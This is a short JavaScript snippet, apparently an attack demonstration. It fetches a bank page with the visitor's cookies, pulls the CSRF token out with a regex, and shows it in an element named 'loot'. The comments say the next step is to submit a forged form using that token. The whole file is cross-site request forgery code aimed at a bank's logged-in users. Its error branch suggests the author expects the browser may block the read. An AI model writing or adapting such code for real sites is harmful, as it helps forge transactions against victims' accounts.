// Reads the bank's page, to find the token in it. It would then send the form with the right token.
// It listens before the page has a button: no click comes too early.
document.addEventListener("click", async ({ target }) => {
  const button = target.closest("[data-bank]");
  if (!button) return;
  const loot = document.querySelector("#loot");
  try {
    const page = await fetch(button.dataset.bank, { credentials: "include" });
    const found = (await page.text()).match(/name="csrfmiddlewaretoken" value="(\w+)"/);
    loot.textContent = found ? `A token: ${found[1]}` : "The page has no token in it.";
  } catch (error) {
    loot.textContent = `The browser keeps the answer to itself: ${error}`;
  }
});
